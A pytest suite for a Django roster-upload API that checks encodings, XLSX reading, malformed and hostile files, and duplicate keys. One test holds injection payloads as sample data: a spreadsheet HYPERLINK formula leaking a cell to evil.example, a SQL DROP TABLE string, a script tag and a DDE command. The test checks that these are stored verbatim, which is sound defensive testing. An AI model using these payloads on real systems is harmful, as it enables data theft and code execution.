"""Files as the departments really send them, and hostile ones, pushed through the API:
encodings, XLSX, full-width forms, blank lines, row numbers, malformed records, files
that cannot be used at all, duplicate keys. Nothing answers 500."""

from __future__ import annotations

import datetime as dt
import io
import os
import zipfile

import pytest

from enrollment.models import (
    HouseholdRow,
    InsurancePersonRow,
    MarketEntityRow,
    RosterBatch,
    RosterIssue,
    TaxPayrollRow,
)
from enrollment.selectors import batch_current_get
from tests.enrollment.factories import header, id_number, roster_csv, table, to_csv, to_xlsx, valid_row

pytestmark = pytest.mark.django_db

FW_DIGITS = str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")


def issues(batch_id: int) -> list[tuple[int, str, str, str]]:
    return list(
        RosterIssue.objects.filter(batch_id=batch_id)
        .order_by("row", "id")
        .values_list("row", "column", "code", "severity")
    )


def pushed(push, kind, content, **kw) -> dict:
    r = push(kind, content, **kw)
    assert r.status_code in (200, 201, 202), r.content
    return r.json()


# --- encodings and headers -----------------------------------------------------------------
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "gbk"])
def test_chinese_headers_in_every_encoding_load(push, encoding):
    rows = [valid_row("household_registry") for _ in range(3)]
    body = pushed(
        push, "household_registry", roster_csv("household_registry", rows, chinese=True, encoding=encoding)
    )
    assert body["status"] == "loaded" and body["rows_loaded"] == 3
    assert body["encoding"] == ("gb18030" if encoding in ("gb18030", "gbk") else "utf-8")
    assert set(HouseholdRow.objects.values_list("name", flat=True)) == {"陈静"}


def test_a_gbk_file_whose_first_lines_are_ascii_is_still_detected(push):
    rows = [valid_row("market_entities", name=f"Company {i}") for i in range(50)]
    rows.append(valid_row("market_entities", name="乌达区五虎山商贸部"))
    body = pushed(push, "market_entities", roster_csv("market_entities", rows, encoding="gbk"))
    assert body["encoding"] == "gb18030" and body["rows_loaded"] == 51
    assert MarketEntityRow.objects.filter(name="乌达区五虎山商贸部").exists()


def test_full_width_forms_are_folded_before_anything_else(push):
    pid = valid_row("household_registry")["id_number"]
    row = valid_row(
        "household_registry",
        id_number="\u3000" + pid.translate(FW_DIGITS) + "\u3000",
        phone="＋８６ １３９－１２３４－５６７８",
        district_code="１５０３０２",
        name="陈静，ＡＢＣ",
    )
    body = pushed(push, "household_registry", roster_csv("household_registry", [row], chinese=True))
    assert body["rows_loaded"] == 1, issues(body["id"])
    saved = HouseholdRow.objects.get()
    assert (saved.id_number, saved.phone, saved.district_code, saved.name) == (
        pid,
        "13912345678",
        "150302",
        "陈静,ABC",
    )


def test_ignored_columns_are_listed(push):
    cells = table("insurance_projects", [valid_row("insurance_projects")])
    cells[0] += ["备注", "经办人"]
    cells[1] += ["无", "张三"]
    body = pushed(push, "insurance_projects", to_csv(cells))
    assert body["status"] == "loaded" and body["ignored_columns"] == ["备注", "经办人"]


# --- row numbers and blank lines -----------------------------------------------------------
def test_blank_lines_are_skipped_and_rows_are_file_lines(push):
    good = valid_row("insurance_projects")
    bad = valid_row("insurance_projects", enrolled_on="2026-02-30")
    text = (
        "project_code,enrolled_on\n"
        f"{good['project_code']},{good['enrolled_on']}\n"
        "\n"
        ",\n"
        "  ,  \n"
        f"{bad['project_code']},{bad['enrolled_on']}\n"
    )
    body = pushed(push, "insurance_projects", text.encode())
    assert (body["rows_total"], body["rows_loaded"], body["rows_rejected"]) == (2, 1, 1)
    assert issues(body["id"]) == [(6, "enrolled_on", "invalid_date", "error")]


def test_a_quoted_cell_spanning_lines_is_one_record_and_rows_count_file_lines(push):
    a, b = valid_row("market_entities"), valid_row("market_entities", established_on="bad")
    a["address"] = "海勃湾区\n滨河路1号"
    body = pushed(push, "market_entities", roster_csv("market_entities", [a, b]))
    assert body["rows_loaded"] == 1
    assert MarketEntityRow.objects.get().address == "海勃湾区\n滨河路1号"
    assert issues(body["id"]) == [(4, "established_on", "invalid_date", "error")]


# --- XLSX -----------------------------------------------------------------------------------
@pytest.fixture(params=["calamine", "openpyxl-stream"])
def xlsx_reader(request, monkeypatch):
    """Every XLSX test runs through both readers: calamine (small workbooks) and the
    streaming openpyxl reader that takes over above XLSX_CALAMINE_MAX_BYTES."""
    from enrollment import reading

    if request.param == "openpyxl-stream":
        monkeypatch.setattr(reading, "XLSX_CALAMINE_MAX_BYTES", 0)
    return request.param


def test_xlsx_first_sheet_in_workbook_order_with_numbers_and_dates(push, xlsx_reader):
    row = valid_row("tax_payroll")
    first = [
        header("tax_payroll", chinese=True),
        [row["uscc"], row["name"], dt.date(2026, 9, 1), 25.0, 187500.5, 150302],
    ]
    decoy = [["not", "a", "roster"], [1, 2, 3]]
    content = to_xlsx({"扣缴明细": first, "说明": decoy}, active=1)
    body = pushed(push, "tax_payroll", content, name="payroll.xlsx")
    assert body["file_format"] == "xlsx" and body["status"] == "loaded", issues(body["id"])
    saved = TaxPayrollRow.objects.get()
    assert (saved.period, saved.payroll_headcount, str(saved.payroll_total), saved.district_code) == (
        202609,
        25,
        "187500.50",
        "150302",
    )


def test_xlsx_date_cells_and_integer_looking_codes(push, xlsx_reader):
    row = valid_row("market_entities")
    cells = [row[k] for k in header("market_entities")]
    cells[4] = dt.datetime(2015, 3, 8, 0, 0)  # noqa: DTZ001 — an Excel date cell is naive
    cells[5] = 150302  # district as a number
    cells[6] = 150302001.0  # street as a float with no fraction
    cells[10] = 13912345678  # phone as a number
    cells[11] = 25.0
    body = pushed(
        push, "market_entities", to_xlsx({"Sheet1": [header("market_entities"), cells]}), name="m.xlsx"
    )
    assert body["rows_loaded"] == 1, issues(body["id"])
    saved = MarketEntityRow.objects.get()
    assert (
        saved.established_on,
        saved.district_code,
        saved.street_code,
        saved.phone,
        saved.employees_reported,
    ) == (dt.date(2015, 3, 8), "150302", "150302001", "13912345678", 25)


def test_xlsx_errors_report_sheet_rows(push, xlsx_reader):
    rows = [valid_row("insurance_projects"), valid_row("insurance_projects", enrolled_on="soon")]
    body = pushed(
        push, "insurance_projects", to_xlsx({"S": table("insurance_projects", rows)}), name="p.xlsx"
    )
    assert issues(body["id"]) == [(3, "enrolled_on", "invalid_date", "error")]


# --- hostile files --------------------------------------------------------------------------
def _rejected(body, fragment):
    assert body["status"] == "rejected", body
    assert fragment in body["message"], body["message"]
    assert batch_current_get(kind=body["kind"], as_of=dt.date(2100, 1, 1)) is None


def test_binary_renamed_csv_is_rejected_whole(push):
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + os.urandom(2000)
    _rejected(pushed(push, "market_entities", png, name="roster.csv"), "不是")


def test_random_bytes_are_rejected_whole(push):
    body = pushed(push, "market_entities", bytes(range(256)) * 50, name="roster.csv")
    assert body["status"] == "rejected" and body["message"]


def test_a_zip_that_is_no_workbook_is_rejected_whole(push, xlsx_reader):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("hello.txt", "not a workbook")
    _rejected(pushed(push, "market_entities", buf.getvalue(), name="roster.xlsx"), "XLSX")


def test_a_truncated_workbook_is_rejected_whole(push, xlsx_reader):
    content = to_xlsx({"S": table("insurance_projects", [valid_row("insurance_projects")])})
    _rejected(pushed(push, "insurance_projects", content[: len(content) // 2], name="p.xlsx"), "XLSX")


def test_legacy_xls_is_rejected_whole(push):
    _rejected(
        pushed(push, "market_entities", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, name="old.xls"),
        "xls",
    )


def test_undecodable_text_is_rejected_whole(push):
    content = b"uscc,name\n" + b"\xff\xfe\xfa\x80\x80\n"
    _rejected(pushed(push, "market_entities", content), "编码")


@pytest.mark.parametrize(
    "content, fragment",
    [
        (b"", "空"),
        (b"\r\n\r\n", "表头"),
    ],
)
def test_empty_files_are_rejected_whole(push, content, fragment):
    _rejected(pushed(push, "insurance_projects", content), fragment)


def test_a_header_without_rows_is_rejected_unless_allowed(push):
    content = to_csv([header("insurance_projects")])
    _rejected(pushed(push, "insurance_projects", content), "allow_empty")
    other = to_csv([header("insurance_projects", chinese=True)])
    body = pushed(push, "insurance_projects", other, allow_empty="true")
    assert (body["status"], body["rows_loaded"]) == ("loaded", 0)
    assert batch_current_get(kind="insurance_projects", as_of=dt.date(2100, 1, 1)).pk == body["id"]


def test_a_required_column_missing_is_rejected_whole_naming_it(push):
    cells = [r[:-1] for r in table("insurance_projects", [valid_row("insurance_projects")])]
    _rejected(pushed(push, "insurance_projects", to_csv(cells)), "enrolled_on")


def test_a_file_over_the_limit_is_rejected_whole(push, settings):
    settings.ROSTER_MAX_BYTES = 100
    content = roster_csv("insurance_projects", [valid_row("insurance_projects") for _ in range(10)])
    _rejected(pushed(push, "insurance_projects", content), "上限")


def test_nul_bytes_reject_that_record_only(push):
    rows = [valid_row("insurance_projects") for _ in range(3)]
    lines = roster_csv("insurance_projects", rows).split(b"\r\n")
    lines[2] = lines[2][:4] + b"\x00\x00" + lines[2][4:]
    body = pushed(push, "insurance_projects", b"\r\n".join(lines))
    assert (body["rows_total"], body["rows_loaded"], body["rows_rejected"]) == (3, 2, 1)
    assert issues(body["id"]) == [(3, "", "invalid_format", "error")]


def test_an_unbalanced_quote_rejects_that_record_only(push):
    rows = [valid_row("market_entities", name=f"企业{i}") for i in range(4)]
    rows[1]["name"] = 'Bad "quote company'
    content = roster_csv("market_entities", rows)
    content = content.replace(b'"Bad ""quote company"', b'Bad "quote company')
    content = content.replace("企业2".encode(), b'"Closed" trailing')
    body = pushed(push, "market_entities", content)
    assert (body["rows_total"], body["rows_loaded"], body["rows_rejected"]) == (4, 2, 2)
    assert [(r, code) for r, _, code, _ in issues(body["id"])] == [
        (3, "invalid_format"),
        (4, "invalid_format"),
    ]


def test_an_unclosed_quote_at_the_end_is_one_rejected_record(push):
    rows = [valid_row("insurance_projects") for _ in range(5)]
    content = (
        roster_csv("insurance_projects", rows[:3])
        + f'"{rows[3]["project_code"]},2026-01-01\r\n'.encode()
        + f"{rows[4]['project_code']},2026-01-01\r\n".encode()
    )
    body = pushed(push, "insurance_projects", content)
    assert (body["rows_total"], body["rows_loaded"], body["rows_rejected"]) == (4, 3, 1)
    assert issues(body["id"]) == [(5, "", "invalid_format", "error")]


def test_a_200000_character_cell_rejects_that_record_only(push):
    rows = [valid_row("market_entities") for _ in range(3)]
    rows[1]["address"] = "址" * 200_000
    body = pushed(push, "market_entities", roster_csv("market_entities", rows))
    assert (body["rows_loaded"], body["rows_rejected"]) == (2, 1)
    assert issues(body["id"]) == [(3, "", "too_long", "error")]
    rows[2]["legal_representative"] = '"' + "x" * 200_000 + '"'  # quoted, too
    body = pushed(push, "market_entities", roster_csv("market_entities", [rows[0], rows[2]]))
    assert (body["rows_loaded"], body["rows_rejected"]) == (1, 1)


def test_formula_sql_and_script_text_is_stored_verbatim(push):
    names = [
        '=HYPERLINK("http://evil.example/?"&A1,"点我")',
        "'); DROP TABLE enrollment_rosterbatch;--",
        "<script>alert('x')</script>",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
    ]
    rows = [valid_row("market_entities", name=n) for n in names]
    body = pushed(push, "market_entities", roster_csv("market_entities", rows))
    assert body["rows_loaded"] == len(names)
    assert sorted(MarketEntityRow.objects.values_list("name", flat=True)) == sorted(names)
    assert RosterBatch.objects.filter(pk=body["id"]).exists()


# --- duplicate keys -------------------------------------------------------------------------
def test_a_later_row_with_the_same_key_is_a_duplicate(push):
    a = valid_row("market_entities")
    b = valid_row("market_entities", uscc=a["uscc"].lower(), name="后一行")
    body = pushed(push, "market_entities", roster_csv("market_entities", [a, b]))
    assert issues(body["id"]) == [(3, "uscc", "duplicate_key", "error")]
    assert MarketEntityRow.objects.get().name == a["name"]


def test_the_first_otherwise_valid_row_wins(push):
    a = valid_row("market_entities", established_on="bad")
    b = valid_row("market_entities", uscc=a["uscc"], name="第二行")
    c = valid_row("market_entities", uscc=a["uscc"], name="第三行")
    body = pushed(push, "market_entities", roster_csv("market_entities", [a, b, c]))
    assert issues(body["id"]) == [
        (2, "established_on", "invalid_date", "error"),
        (4, "uscc", "duplicate_key", "error"),
    ]
    assert MarketEntityRow.objects.get().name == "第二行"


def test_composite_keys(push):
    p = valid_row("insurance_persons", id_number=id_number(dt.date(1980, 5, 17)))  # born in the 1900s
    legacy = p["id_number"][:6] + p["id_number"][8:17]  # the same person as a 15-digit number
    rows = [
        p,
        valid_row("insurance_persons", id_number=p["id_number"], insurance_type="injury"),
        valid_row("insurance_persons", id_number=legacy, insurance_type="养老"),
    ]
    body = pushed(push, "insurance_persons", roster_csv("insurance_persons", rows))
    assert (body["rows_loaded"], body["rows_rejected"]) == (2, 1)
    assert issues(body["id"]) == [(4, "id_number", "duplicate_key", "error")]
    assert InsurancePersonRow.objects.count() == 2
    t = valid_row("tax_payroll")
    rows = [
        t,
        valid_row("tax_payroll", uscc=t["uscc"], period="2026-09"),
        valid_row("tax_payroll", uscc=t["uscc"], period="202610"),
    ]
    body = pushed(push, "tax_payroll", roster_csv("tax_payroll", rows))
    assert (body["rows_loaded"], body["rows_rejected"]) == (2, 1)


def test_warnings_are_reported_beside_errors_and_the_row_loads(push):
    row = valid_row("market_entities", phone="12345", street_code="150303001", industry_code="Z99")
    body = pushed(push, "market_entities", roster_csv("market_entities", [row]))
    assert (body["rows_loaded"], body["warnings"]) == (1, 3)
    assert sorted(code for _, _, code, sev in issues(body["id"]) if sev == "warning") == [
        "invalid_format",
        "invalid_phone",
        "unknown_region",
    ]
    saved = MarketEntityRow.objects.get()
    assert (saved.phone, saved.street_code, saved.industry_code) == (None, None, None)


def test_a_file_whose_rows_all_fail_is_not_a_snapshot(push):
    rows = [valid_row("insurance_projects", enrolled_on="x") for _ in range(2)]
    body = pushed(push, "insurance_projects", roster_csv("insurance_projects", rows))
    _rejected(body, "没有一行")
    assert len(issues(body["id"])) == 2


def test_beyond_the_in_memory_key_limit_the_database_finishes_deduplication(push, monkeypatch):
    from enrollment import loading

    monkeypatch.setattr(loading, "CHUNK_ROWS", 2)
    monkeypatch.setattr(loading, "DEDUPE_MEMORY_KEYS", 2)
    a, b, d = (valid_row("market_entities", name=n) for n in "ABD")
    g = valid_row("market_entities", name="G", established_on="bad")
    rows = [
        a,
        b,
        valid_row("market_entities", uscc=a["uscc"], name="C"),
        d,
        valid_row("market_entities", uscc=d["uscc"], name="E", phone="1"),
        valid_row("market_entities", uscc=d["uscc"].lower(), name="F"),
        g,
        valid_row("market_entities", uscc=g["uscc"], name="H", phone="2"),
        valid_row("market_entities", uscc=b["uscc"], name="I"),
    ]
    body = pushed(push, "market_entities", roster_csv("market_entities", rows))
    assert (body["rows_total"], body["rows_loaded"], body["rows_rejected"], body["warnings"]) == (9, 4, 5, 1)
    assert sorted(MarketEntityRow.objects.values_list("name", flat=True)) == ["A", "B", "D", "H"]
    assert [(r, code) for r, _, code, sev in issues(body["id"]) if sev == "error"] == [
        (4, "duplicate_key"),
        (6, "duplicate_key"),
        (7, "duplicate_key"),
        (8, "invalid_date"),
        (10, "duplicate_key"),
    ]
